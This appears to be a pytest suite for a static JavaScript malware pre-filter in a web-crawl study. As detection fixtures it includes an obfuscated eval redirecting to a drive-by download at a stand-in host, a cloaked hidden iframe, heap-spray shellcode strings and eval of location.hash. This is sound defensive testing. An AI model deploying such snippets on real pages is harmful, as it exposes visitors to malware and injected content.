"""Tests for the repro.staticjs static pre-filter.

Covers the four fact extractors (CFG reachability, constant
propagation, taint tracking, capability scan), the rule engine's
verdicts, the iterative ``Node.walk`` regression, and the
behaviour-preservation contract: running the crawl pipeline with the
static pre-filter on must produce exactly the same verdict set as the
dynamic-only pipeline while skipping a substantial share of provably
benign scripts.
"""

import hashlib
import json
from dataclasses import asdict

import pytest
from hypothesis import given, settings, strategies as st

from repro import MalwareSlumsStudy, StudyConfig
from repro.crawler import CrawlPipeline, PipelineOptions
from repro.detection.heuristics import analyze_html
from repro.jsengine import (
    BudgetExceeded,
    CompileCache,
    Interpreter,
    JSException,
    deobfuscate,
    extract_features,
)
from repro.jsengine import nodes as N
from repro.jsengine.parser import parse
from repro.jsengine.values import JSArray
from repro.obs import RunObserver
from repro.staticjs import (
    UNKNOWN,
    VERDICT_BENIGN,
    VERDICT_MALICIOUS,
    VERDICT_NEEDS_DYNAMIC,
    VERDICT_SUSPICIOUS,
    analyze_script,
    build_call_graph,
    build_cfg,
    find_taint_flows,
    fold,
    propagate,
)

from .test_absint import corpus_sources


class TestCfg:
    def test_straight_line_is_fully_reachable(self):
        program = parse("var a = 1; var b = a + 2; f(b);")
        cfg = build_cfg(program.body)
        assert not cfg.constant_pruned
        assert cfg.unreachable_statements() == []

    def test_constant_false_branch_is_pruned(self):
        program = parse("if (false) { evil(); } ok();")
        cfg = build_cfg(program.body)
        assert cfg.constant_pruned
        assert len(cfg.unreachable_statements()) == 1

    def test_constant_guard_through_variable(self):
        program = parse("var debug = false; if (debug) { evil(); }")
        resolution = propagate(program)
        cfg = build_cfg(program.body, resolution.constants)
        assert cfg.constant_pruned
        assert cfg.unreachable_statements()

    def test_unknown_test_keeps_both_edges(self):
        program = parse("if (x) { a(); } else { b(); }")
        cfg = build_cfg(program.body)
        assert not cfg.constant_pruned
        assert cfg.unreachable_statements() == []

    def test_while_false_body_is_pruned(self):
        program = parse("while (0) { evil(); }")
        cfg = build_cfg(program.body)
        assert cfg.constant_pruned
        assert cfg.unreachable_statements()

    def test_do_while_body_always_runs(self):
        program = parse("do { once(); } while (false);")
        cfg = build_cfg(program.body)
        assert cfg.unreachable_statements() == []

    def test_empty_array_test_is_truthy(self):
        # [] is an object, so truthy: the consequent stays reachable
        program = parse("if ([]) { a(); } else { b(); }")
        cfg = build_cfg(program.body)
        assert cfg.unreachable_statements() == program.body[0].alternate.body


class TestDataflow:
    def test_fold_constant_expressions(self):
        expr = parse("1 + 2 * 3;").body[0].expression
        assert fold(expr) == 7.0
        expr = parse("'a' + 'b' + 'c';").body[0].expression
        assert fold(expr) == "abc"
        expr = parse("x + 1;").body[0].expression
        assert fold(expr) is UNKNOWN

    def test_fromcharcode_folds_to_string(self):
        expr = parse("String.fromCharCode(101, 118, 105, 108);").body[0].expression
        assert fold(expr) == "evil"

    def test_propagation_recovers_obfuscated_eval_payload(self):
        # two obfuscation layers: an array join building a URL, then a
        # string concatenation building the code handed to eval
        source = (
            "var parts = ['ht', 'tp:', '//evil.example/d', 'rop.exe'];\n"
            "var url = parts.join('');\n"
            "var code = \"window.location.href = '\" + url + \"';\";\n"
            "eval(code);\n"
        )
        resolution = propagate(parse(source))
        payloads = [p.value for p in resolution.eval_payloads]
        assert payloads == [
            "window.location.href = 'http://evil.example/drop.exe';"
        ]

    def test_reverse_join_obfuscation_resolves(self):
        source = (
            "var x = 'gro.live'.split('').reverse().join('');\n"
            "document.write('<b>' + x + '</b>');\n"
        )
        resolution = propagate(parse(source))
        assert [p.value for p in resolution.write_payloads] == ["<b>evil.org</b>"]


class TestFoldEdgeCases:
    """fold must mirror the sandbox interpreter's number semantics."""

    def _fold(self, source):
        return fold(parse(source).body[0].expression)

    def test_division_by_zero_is_signed_infinity(self):
        assert self._fold("1 / 0;") == float("inf")
        assert self._fold("-1 / 0;") == float("-inf")

    def test_zero_over_zero_is_nan(self):
        result = self._fold("0 / 0;")
        assert result != result  # NaN

    def test_modulo_zero_is_nan(self):
        result = self._fold("5 % 0;")
        assert result != result

    def test_modulo_keeps_dividend_sign(self):
        # JS remainder: -5 % 3 === -2 (Python's % would give 1)
        assert self._fold("-5 % 3;") == -2.0

    def test_infinity_stringifies_like_js(self):
        assert self._fold("'' + (1/0);") == "Infinity"
        assert self._fold("'' + (-1/0);") == "-Infinity"
        assert self._fold("'' + (0/0);") == "NaN"

    def test_hex_string_to_number(self):
        assert self._fold("+'0x10';") == 16.0
        assert self._fold("'0x10' * 1;") == 16.0

    def test_junk_string_to_number_is_nan(self):
        result = self._fold("+'3px';")
        assert result != result
        assert self._fold("+'';") == 0.0

    def test_nan_index_or_radix_is_unknown_not_an_error(self):
        # 'abc'["NaN"] and 'abc'["1.5"] are undefined, outside the domain
        assert self._fold("'abc'[0/0];") is UNKNOWN
        assert self._fold("'abc'[1.5];") is UNKNOWN
        # a NaN radix is ToInt32 0, which means 10: what the sandbox computes
        assert self._fold("parseInt('7', 0/0);") == 7.0 == Interpreter().run("parseInt('7', 0/0);")

    def test_string_method_on_number_receiver(self):
        # toString folds through number formatting...
        assert self._fold("(12).toString();") == "12"
        # ...but string-only methods on a non-string receiver stay UNKNOWN
        assert self._fold("(5).toUpperCase();") is UNKNOWN
        assert self._fold("(123).charAt(0);") is UNKNOWN
        assert self._fold("(5).split('');") is UNKNOWN


def _canon(value):
    """Type-exact comparable form (NaN equal to itself, -0.0 not 0.0)."""
    if isinstance(value, JSArray):
        value = value.elements
    if isinstance(value, list):
        return [_canon(item) for item in value]
    return (type(value).__name__, repr(value))


#: expressions where fold's own operator table disagreed with the sandbox
FOLD_DIVERGED = [
    '"1" == 1', "1 === true", "-8 >> 1", "0xFFFFFFFF | 0", "1 << 31",
    "~4294967296", "(0/0) | 1", '[null, 1] + ""', '1 + 2 + "a"',
    'true + 1 + "x"', "[] ? 1 : 2", "!![]", '[] && "x"', "1 != '1'",
    "true !== 1", "[5] * 2", '"x" + (1 + 2)',
]
FOLD_AGREED = [
    "1 + 2 * 3", '"a" + "b" + "c"', '"a" + 1 + 2', "7 - '2'", "5 % -3",
    "-5 % 3", "1 / 0", "-1 / 0", "1 / -0", "-1 / -0", "0 / 0", "'3' * '4'",
    "2 < 10", "'2' < '10'", "null == 0", "null >= 0", "(0/0) != (0/0)",
    "'b' > 'a'", "5 & 3", "5 | 8", "6 ^ 3",
    "-1 >>> 28", "+'0x10'", "+'3px'", "-'4'", "!0", "!''", "typeof 1",
    "typeof 'x'", "typeof null", "typeof [1]", "0 || 'x'", "1 && 0",
    "'' ? 1 : 2", "[1, 2] + [3]", "[1, [2, 3]] + ''",
    "String.fromCharCode(104, 105)", "[3, 1, 2].join('-')",
    '1 + (2 + "a")', '"a" + ("b" + "c") + "d"',
]

#: builtin calls and member reads: where the folder's own copies of the
#: builtins disagreed with the sandbox (or crashed), the string members
#: the sandbox lacked, and the corpus's decoding idioms
FOLD_BUILTINS = [
    "'abcabc'.indexOf('a', 1)", "'a,b,c'.split(',', 1)", "parseInt('12abc')",
    "decodeURIComponent('%C3%A9')", "decodeURIComponent('%u0041')", "'abc'.charAt('x')",
    "'abc'[1]", "'abc'.slice(-2, 0)",
    "'gro.live'.split('').reverse().join('')", "String.fromCharCode(101, 118, 105, 108)",
    "unescape('%3Ciframe%20src%3D%22x%22%3E%u0041')", "atob('aWZyYW1l')",
    "decodeURI('%E2%82%AC')",
    "'a-b-c'.split('-').concat(['d'], 'e').join('+')", "[1, 2, 3].slice(1).reverse().join()",
    "(255).toString(16)", "'abcdef'.substr(-4, 2) + 'abcdef'.substring(4, 1)",
    "'aXbXc'.replace('X', '_')", "'abc'.charCodeAt(1)", "parseInt('ff', 16) + parseInt('0x1A')",
    "String(12) + Number('0x10')", "'AbC'.toLowerCase() + ' x '.trim().toUpperCase()",
    "'ab'.concat(1, [2, 3])", "['a', 'b'][1] + 'abc'.length + [1, 2].length",
]


def _interpreted(source):
    """The interpreter's value for ``source``, or UNKNOWN where it throws."""
    try:
        return Interpreter().run(source)
    except (BudgetExceeded, JSException):
        return UNKNOWN


class TestFoldMatchesSandbox:
    """fold computes exactly what the interpreter computes."""

    @pytest.mark.parametrize("expression", FOLD_DIVERGED + FOLD_AGREED + FOLD_BUILTINS)
    def test_fold_equals_interpreter(self, expression):
        folded = fold(parse(expression + ";").body[0].expression)
        assert folded is not UNKNOWN
        assert _canon(folded) == _canon(Interpreter().run(expression + ";"))

    @given(st.data())
    @settings(max_examples=400, deadline=None)
    def test_fold_is_unknown_or_the_interpreters_value(self, data):
        """Over the folder's whole vocabulary and hostile operands, fold
        never raises and never disagrees with the interpreter."""
        source = data.draw(_VOCABULARY_CALLS) + ";"
        folded = fold(parse(source).body[0].expression)
        if folded is not UNKNOWN:
            assert _canon(folded) == _canon(_interpreted(source))


def _js_number(value):
    if value != value:
        return "(0/0)"
    if value in (float("inf"), float("-inf")):
        return "(1/0)" if value > 0 else "(-1/0)"
    return "(%r)" % value


def _js_string(text):
    return '"%s"' % "".join(
        "\\u%04x" % ord(ch) if ch in '"\\' or not " " <= ch <= "~" else ch for ch in text)


_STRINGS = st.text(alphabet="ab,-.%uC3A9x0 \\\n\u00e9", max_size=8).map(_js_string)
_NUMBERS = st.one_of(
    st.sampled_from([0.0, -0.0, 1.0, -1.0, 2.0, 16.0, 36.0, 37.0, 0.5, -2.5, 1e21,
                     float("nan"), float("inf"), float("-inf")]),
    st.floats(min_value=-100, max_value=100)).map(_js_number)
_SCALARS = st.one_of(_STRINGS, _NUMBERS, st.sampled_from(["true", "null"]))
_ARRAYS = st.lists(st.one_of(_STRINGS, _NUMBERS), max_size=4).map(lambda items: "[%s]" % ", ".join(items))
_OPERANDS = st.one_of(_SCALARS, _ARRAYS)
_ARGS = st.lists(_OPERANDS, max_size=3).map(", ".join)
_METHODS = ["split", "charAt", "charCodeAt", "substring", "slice", "substr", "toLowerCase",
            "toUpperCase", "trim", "concat", "indexOf", "replace", "toString", "join", "reverse"]
_GLOBALS = ["String.fromCharCode", "unescape", "decodeURIComponent",
            "decodeURI", "atob", "parseInt", "String", "Number"]
_VOCABULARY_CALLS = st.one_of(
    st.builds("{}({})".format, st.sampled_from(_GLOBALS), _ARGS),
    st.builds("({}).{}({})".format, _OPERANDS, st.sampled_from(_METHODS), _ARGS),
    st.builds("({})[{}]".format, _OPERANDS, _SCALARS),
)


class TestCfgLoweringEdgeCases:
    def test_dead_branch_switch_statements_are_pruned(self):
        program = parse(
            "if (false) { switch (x) { case 1: dead(); } } live();")
        cfg = build_cfg(program.body)
        assert len(cfg.unreachable_statements()) >= 1

    def test_reachable_switch_cases_are_not_pruned(self):
        program = parse(
            "switch (1) { case 1: a(); break; case 2: b(); break; }")
        cfg = build_cfg(program.body)
        assert cfg.unreachable_statements() == []

    def test_dead_code_inside_try_is_pruned(self):
        program = parse(
            "try { if (false) { dead(); } live(); }"
            " catch (e) { handler(); }")
        cfg = build_cfg(program.body)
        pruned = cfg.unreachable_statements()
        assert len(pruned) == 1

    def test_loop_heads_recorded_for_widening(self):
        program = parse("while (x) { x = step(x); }")
        cfg = build_cfg(program.body)
        assert cfg.loop_heads
        assert cfg.loop_head_of


class TestTaint:
    def test_direct_source_to_eval(self):
        flows = find_taint_flows(parse("eval(location.search);"))
        assert [(f.source, f.sink) for f in flows] == [("location.search", "eval")]

    def test_flow_through_variable(self):
        flows = find_taint_flows(parse(
            "var q = document.referrer; document.write(q);"))
        assert len(flows) == 1
        assert flows[0].source == "document.referrer"
        assert flows[0].sink == "document.write"
        assert flows[0].variable == "q"

    def test_overwrite_clears_taint(self):
        flows = find_taint_flows(parse(
            "var q = location.hash; q = 'safe'; eval(q);"))
        assert flows == []

    def test_clean_script_has_no_flows(self):
        assert find_taint_flows(parse("var a = 1; eval('x');")) == []


class TestVisitOrders:
    """Outputs that depend on the order the static passes visit nodes
    in, recorded before the passes moved onto the AST index."""

    @staticmethod
    def _flows(source):
        return [f.evidence for f in analyze_script(source).findings if f.rule == "taint-flow"]

    def test_taint_statements_in_order_expressions_right_to_left(self):
        source = ("var a = document.referrer, b = location.search; "
                  "document.write(a + b); location.href = b + a;")
        assert self._flows(source) == ["location.search -> document.write",
                                       "document.referrer -> location.href"]
        assert self._flows("eval(location.hash + document.cookie);") == [
            "document.cookie -> eval"]

    def test_nested_assignment_taints_before_its_reads(self):
        assert self._flows("x = (y = location.hash); eval(x); eval(y);") == [
            "location.hash -> eval via x", "location.hash -> eval via y"]

    def test_shellcode_literals_in_reverse_source_order(self):
        report = analyze_script(
            "var a = '%u9090%u9090'; var b = '%u4141%u4141'; var c = '%u4242%u4242';")
        assert [(f.rule, f.evidence) for f in report.findings] == [
            ("shellcode-string", "%u4242%u4242"),
            ("shellcode-string", "%u4141%u4141"),
            ("shellcode-string", "%u9090%u9090")]

    def test_call_graph_later_binding_wins(self):
        program = parse(
            "function f() { g(); h(); } var f = function () { k(); f(); }; "
            "function g() { h(); } function h() {} (function () { g(); f(); })(); f();")
        graph = build_call_graph(program)
        assert {name: type(fn).__name__ for name, fn in graph.functions.items()} == {
            "f": "FunctionExpr", "g": "FunctionDecl", "h": "FunctionDecl"}
        # anonymous function expressions' calls are the enclosing scope's
        assert graph.edges == {"<toplevel>": ["f", "f", "g", "f"], "g": ["h"],
                               "f": ["h", "g"]}
        assert graph.unresolved_calls == 2
        assert graph.recursive == set()


#: sha256 of the static pass over every distinct non-empty inline script
#: of the seed-2016 scale-0.005 web (see :func:`corpus_report_digest`)
CORPUS_REPORT_DIGEST = "bd6572478a456f70ec27df7e95cf94f7e7db98750fa98a04e0e11d1bb33ac16a"
CORPUS_REPORT_SCRIPTS = 649


def corpus_report_digest(compile_cache=None):
    """(script count, sha256 of each script's sorted-key JSON report,
    deobfuscation and features of the deobfuscated text, in sorted
    source order), every pass reading ``compile_cache`` when given."""
    sources = corpus_sources()
    digest = hashlib.sha256()
    for source in sources:
        deobfuscated = deobfuscate(source)
        digest.update(json.dumps({
            "report": analyze_script(source, compile_cache=compile_cache).to_dict(),
            "features": asdict(extract_features(deobfuscated.source,
                                                compile_cache=compile_cache)),
            "deobfuscated": [deobfuscated.layers, deobfuscated.source,
                             deobfuscated.decoded_strings],
        }, sort_keys=True).encode())
    return len(sources), digest.hexdigest()


def test_corpus_reports_are_pinned():
    """The static pass decides most pages' sandbox skip and feeds the
    content heuristics: a refactor of the rules, the fact extractors,
    the feature extractor, the deobfuscator or the AST index must leave
    every report unchanged, cold and through one shared cache.  A change
    that moves them on purpose says why and regenerates the digest
    with::

        PYTHONPATH=src python -c "from tests.test_staticjs import corpus_report_digest; print(corpus_report_digest())"
    """
    expected = (CORPUS_REPORT_SCRIPTS, CORPUS_REPORT_DIGEST)
    assert corpus_report_digest() == expected
    assert corpus_report_digest(CompileCache()) == expected


class TestVerdicts:
    def test_unreferenced_helper_is_benign(self):
        report = analyze_script(
            "function toggleMenu() {"
            "  document.getElementById('m').style.display = 'block';"
            "} var year = 2016;")
        assert report.verdict == VERDICT_BENIGN
        assert report.capabilities == []

    def test_document_write_needs_dynamic(self):
        report = analyze_script("document.write('<div>sponsored</div>');")
        assert report.verdict == VERDICT_NEEDS_DYNAMIC
        assert "document-write" in report.capabilities

    def test_cloaked_payload_is_malicious(self):
        report = analyze_script(
            "var debug = false;"
            "if (debug) { document.write('<iframe src=\"http://x/\" "
            "style=\"display:none\"></iframe>'); }")
        assert report.verdict == VERDICT_MALICIOUS
        assert any(f.rule == "cloaked-payload" for f in report.findings)

    def test_shellcode_literal_is_malicious(self):
        report = analyze_script("var sc = '%u9090%u9090%u4141';")
        assert report.verdict == VERDICT_MALICIOUS
        assert any(f.rule == "shellcode-string" for f in report.findings)

    def test_taint_flow_is_malicious(self):
        report = analyze_script("eval(location.hash);")
        assert report.verdict == VERDICT_MALICIOUS
        assert any(f.rule == "taint-flow" for f in report.findings)

    def test_obfuscated_eval_is_suspicious(self):
        report = analyze_script("eval(unescape('alert%281%29'))")
        assert report.verdict == VERDICT_SUSPICIOUS

    def test_garbage_never_raises(self):
        report = analyze_script("\x00\x00\x00{{{")
        assert report.parse_failed
        assert report.verdict == VERDICT_NEEDS_DYNAMIC


class TestDeepWalk:
    DEPTH = 5000

    def _deep_chain(self):
        node = N.NumberLiteral(1.0)
        for _ in range(self.DEPTH):
            node = N.Binary("+", node, N.NumberLiteral(1.0))
        return node

    def test_walk_is_iterative(self):
        # a recursive walk() would exhaust the interpreter stack here
        chain = self._deep_chain()
        count = sum(1 for _ in chain.walk())
        assert count == 2 * self.DEPTH + 1

    def test_fold_handles_deep_plus_spine(self):
        assert fold(self._deep_chain()) == float(self.DEPTH + 1)


class TestAnalyzeHtmlIntegration:
    BENIGN = (
        "<html><body><script>function toggleMenu() {"
        "document.getElementById('m').style.display = 'block';"
        "}</script></body></html>"
    )
    ACTIVE = (
        "<html><body><script>document.write('<div>ad</div>');"
        "</script></body></html>"
    )

    def test_benign_page_skips_sandbox(self):
        analysis = analyze_html(self.BENIGN)
        assert analysis.sandbox_skipped
        assert analysis.static_findings == []

    def test_active_page_replays_effects(self):
        # a non-benign script no longer forces execution: the abstract
        # interpreter proves its complete effects and replays them
        analysis = analyze_html(self.ACTIVE)
        assert analysis.sandbox_skipped
        assert analysis.document_writes >= 1

    def test_active_page_with_interference_still_runs(self):
        html = (
            "<html><body><script>var shared = 1;</script>"
            "<script>if (window.shared) { document.write('<div>ad</div>'); }"
            "</script></body></html>"
        )
        analysis = analyze_html(html)
        assert not analysis.sandbox_skipped
        assert analysis.document_writes >= 1

    def test_prefilter_off_never_skips(self):
        analysis = analyze_html(self.BENIGN, static_prefilter=False)
        assert not analysis.sandbox_skipped
        assert analysis.static_findings == []


class TestPrefilterEquality:
    """The behaviour-preservation contract, end to end."""

    SEED = 2016
    SCALE = 0.004

    def _run(self, static_prefilter):
        study = MalwareSlumsStudy(StudyConfig(seed=self.SEED, scale=self.SCALE))
        web = study.generate_web()
        observer = RunObserver()
        pipeline = CrawlPipeline(web, PipelineOptions(
            observer=observer, static_prefilter=static_prefilter))
        outcome = pipeline.run()
        verdicts = {url: v.malicious for url, v in outcome.verdicts.items()}
        return observer, verdicts

    def test_same_verdict_set_with_substantial_skip_rate(self):
        obs_on, verdicts_on = self._run(True)
        obs_off, verdicts_off = self._run(False)

        assert verdicts_on == verdicts_off

        metrics = obs_on.metrics
        analyzed = metrics.counter_total("staticjs.scripts")
        skipped_scripts = metrics.counter_total("staticjs.sandbox.skipped_scripts")
        skipped_pages = metrics.counter_total("staticjs.sandbox.skipped_pages")
        assert analyzed > 0
        assert skipped_pages > 0
        # the acceptance bar: at least 30% of scripts proven benign
        # enough to skip the sandbox entirely
        assert skipped_scripts / analyzed >= 0.30

        # the dynamic-only run must not touch the static analyzer
        assert obs_off.metrics.counter_total("staticjs.scripts") == 0
